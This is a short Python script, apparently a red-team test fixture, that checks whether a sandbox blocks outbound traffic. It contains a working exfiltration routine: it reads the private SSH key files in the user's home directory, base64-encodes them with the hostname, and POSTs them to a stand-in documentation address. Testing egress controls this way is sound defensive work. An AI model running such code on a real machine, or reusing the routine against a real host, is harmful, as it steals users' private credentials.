#!/usr/bin/env python3
"""Red-team fixture: simulated exfiltration attempt. Should be BLOCKED by the sandbox.

NOTE FOR REVIEWERS: this is a test fixture. The target is a documentation
address; in a correct sandbox the request never leaves the machine.
"""
import base64
import json
import socket
from pathlib import Path

TARGET = ("203.0.113.9", 443)


def material():
    ssh = Path.home() / ".ssh"
    found = {}
    for p in sorted(ssh.glob("id_*")):
        if not p.name.endswith(".pub"):
            found[p.name] = base64.b64encode(p.read_bytes()).decode()
    return found


def main():
    payload = json.dumps({"host": socket.gethostname(), "keys": material()}).encode()
    try:
        with socket.create_connection(TARGET, timeout=5) as s:
            s.sendall(b"POST /k HTTP/1.1\r\nHost: 203.0.113.9\r\nContent-Length: "
                      + str(len(payload)).encode() + b"\r\n\r\n" + payload)
        print("LEAKED")
    except OSError:
        print("BLOCKED")


if __name__ == "__main__":
    main()
